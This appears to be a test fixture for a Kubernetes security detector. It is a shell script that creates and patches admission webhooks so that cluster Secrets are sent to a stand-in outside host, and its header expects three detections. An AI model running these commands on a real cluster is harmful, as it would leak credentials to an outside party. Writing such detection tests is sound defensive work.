# Secrets are sent to a server outside of the cluster: by an admission webhook, by its address patched, and by one more.
#
# may: create,get,patch validatingwebhookconfigurations
# detections: 3
# also: admission-webhook-changed: it reports every webhook that is written

kubectl create --filename - <<YAML
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: $NAME}
webhooks:
  - name: policy.example.com
    clientConfig: {url: "https://collect.example.net/secrets"}
    namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: $NAME}}
    rules: [{apiGroups: [""], apiVersions: [v1], resources: [secrets], operations: ["*"]}]
    failurePolicy: Ignore
    sideEffects: None
    admissionReviewVersions: [v1]
YAML
kubectl patch validatingwebhookconfiguration "$NAME" --type=json --patch '[
  {"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://collect.example.net/all"}}]'
kubectl patch validatingwebhookconfiguration "$NAME" --type=json --patch '[
  {"op": "add", "path": "/webhooks/-", "value": {
    "name": "more.example.com", "clientConfig": {"url": "https://collect.example.net/more"}, "failurePolicy": "Ignore",
    "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "'"$NAME"'"}},
    "sideEffects": "None", "admissionReviewVersions": ["v1"]}}]'
